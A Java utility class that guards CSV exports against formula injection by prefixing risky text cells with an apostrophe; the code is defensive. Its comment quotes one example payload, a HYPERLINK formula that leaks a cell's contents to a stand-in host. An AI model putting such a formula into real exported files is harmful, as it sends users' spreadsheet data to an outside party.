package tenken.store.io;

/**
 * The one rule for text cells of every CSV Tenken writes: a cell that begins with {@code = + - @},
 * a tab or a carriage return would be read by a spreadsheet as a formula (CSV injection, e.g.
 * {@code =HYPERLINK("http://x.example/?leak="&A1,"y")}), so it is written with an apostrophe in front,
 * which spreadsheets show as text and do not print. Numbers are written by the callers from numbers
 * and never pass through here, so {@code -0.5} stays a number.
 */
public final class CsvCells {

    private CsvCells() {
    }

    /** {@code text}, with an apostrophe in front when a spreadsheet would take it for a formula. */
    public static String text(String text) {
        if (text == null || text.isEmpty()) {
            return text;
        }
        char first = text.charAt(0);
        boolean formula = first == '=' || first == '+' || first == '-' || first == '@' || first == '\t'
                || first == '\r';
        return formula ? "'" + text : text;
    }
}
